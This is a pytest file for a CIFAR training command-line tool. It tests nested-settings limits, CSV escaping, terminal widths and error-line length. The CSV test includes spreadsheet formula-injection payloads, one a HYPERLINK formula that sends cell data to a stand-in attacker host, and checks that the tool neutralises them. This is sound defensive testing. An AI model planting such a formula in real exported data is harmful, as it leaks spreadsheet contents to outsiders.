"""Edges a user or an attacker reaches from the command line (issue 16): settings files nested
thousands deep, spreadsheet formulas in CSV cells, narrow terminals, values that must be refused
rather than ignored, and errors that quote megabytes. Real processes, exit codes and one line."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest

from procs import cli_process, env_for, one_error


@pytest.fixture(scope="module")
def two_runs(tmp_path_factory, tiny_archive) -> tuple[Path, list[str]]:
    """A cache holding the tiny dataset and two short runs (λ = 0 and 0.1): (cache folder, run IDs)."""
    from cifarcli import stages
    from cifarcli.config import TrainConfig

    ws = stages.Workspace(tmp_path_factory.mktemp("trained") / "cache")
    stages.fetch(ws, str(tiny_archive))
    keys = [stages.train(ws, TrainConfig(lam=lam, eta=0.01, n_epochs=2, n_batch=50)).key for lam in (0.0, 0.1)]
    return ws.cache_dir, keys


def in_workspace(tmp_path: Path, two_runs) -> list[str]:
    shutil.copytree(two_runs[0], tmp_path / "cache")
    return two_runs[1]


def narrow(tmp_path: Path, columns: int) -> dict:
    return {**env_for(tmp_path), "COLUMNS": str(columns)}


def settings_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "study.toml"
    path.write_text(text)
    return path


# -- settings files the parser cannot take ------------------------------------------------------

DEEP = 5000


@pytest.mark.parametrize("text", [
    pytest.param("x = " + "[" * DEEP + "]" * DEEP, id="arrays-5000-deep"),
    pytest.param("[[run]]\nlam = 0\neta = 0.1\nx = " + "{a = " * DEEP + "1" + "}" * DEEP, id="inline-tables-5000-deep"),
    pytest.param("[[run]]\nlam = 0\neta = 0.1\nseed = " + "7" * 5000, id="seed-of-5000-digits"),
])
def test_a_settings_file_the_parser_cannot_take_is_one_line_naming_it(tmp_path, text):
    path = settings_file(tmp_path, text)
    done = cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache")
    line = one_error(done, 2, str(path))
    assert len(line) < 300


def test_a_value_nested_deep_but_readable_is_refused_in_a_short_line(tmp_path):
    path = settings_file(tmp_path, "[[run]]\neta = 0.1\nlam = " + "[" * 300 + "]" * 300)
    line = one_error(cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2,
                     str(path), "run 1", "lam")
    assert "[[[[...]]]]" in line and len(line) < 300


# -- runs --csv and spreadsheets ----------------------------------------------------------------------


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3",
                                     "@SUM(A1:A9)", "\t=1"])
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path, two_runs, formula):
    from cifarcli import runs, stages, views

    in_workspace(tmp_path, two_runs)
    result = runs.list_runs(stages.Workspace(tmp_path / "cache"))
    first, second = result["runs"]
    first["created"], second["settings"]["split"] = formula, formula
    first["val_acc"] = -0.5  # a number, not text: it stays a number
    rows = list(csv.DictReader(io.StringIO(views.runs_csv(result), newline="")))
    assert rows[0]["created"] == "'" + formula and rows[1]["split"] == "'" + formula
    assert rows[0]["val_acc"] == "-0.5"
    assert [r["run_id"] for r in rows] == [first["run_id"], second["run_id"]]
    assert rows[1]["created"] == second["created"] and rows[0]["split"] == "seed"


def test_runs_csv_of_a_real_cache_is_unchanged_by_the_rule(tmp_path, two_runs):
    keys = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--csv", "--cache-dir", "cache")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert sorted(r["run_id"] for r in rows) == sorted(keys)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:]+[+-]\d\d:\d\d", r["created"]) for r in rows)


# -- narrow terminals -------------------------------------------------------------------------------------


@pytest.mark.parametrize("columns", [0, 1, 5])
def test_runs_at_any_terminal_width_lists_the_runs(tmp_path, two_runs, columns):
    keys = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--cache-dir", "cache", env=narrow(tmp_path, columns))
    assert done.returncode == 0, done.stderr
    assert all(key[:8] in done.stdout for key in keys)
    as_json = cli_process(tmp_path, "runs", "--json", "--cache-dir", "cache", env=narrow(tmp_path, columns))
    assert as_json.returncode == 0, as_json.stderr
    assert sorted(r["run_id"] for r in json.loads(as_json.stdout)["runs"]) == sorted(keys)


@pytest.mark.parametrize("columns", [0, 1, 20])
def test_an_error_is_printed_at_any_terminal_width(tmp_path, two_runs, columns):
    in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "evaluate", "--run", "zzzz", "--cache-dir", "cache", env=narrow(tmp_path, columns))
    one_error(done, 2, "zzzz")


@pytest.mark.parametrize("columns", [1, 10, 20])
def test_the_train_result_shows_its_numbers_at_any_terminal_width(tmp_path, two_runs, columns):
    in_workspace(tmp_path, two_runs)
    args = ("train", "--lam", "0", "--eta", "0.01", "--n-epochs", "2", "--n-batch", "50", "--cache-dir", "cache")
    wide = json.loads(cli_process(tmp_path, *args, "--json").stdout)
    done = cli_process(tmp_path, *args, env=narrow(tmp_path, columns))
    assert done.returncode == 0, done.stderr
    for split in ("train", "val"):
        assert f"{wide['final'][split + '_acc']:.4f}" in done.stdout, done.stdout
        assert f"{wide['final'][split + '_cost']:.4f}" in done.stdout, done.stdout
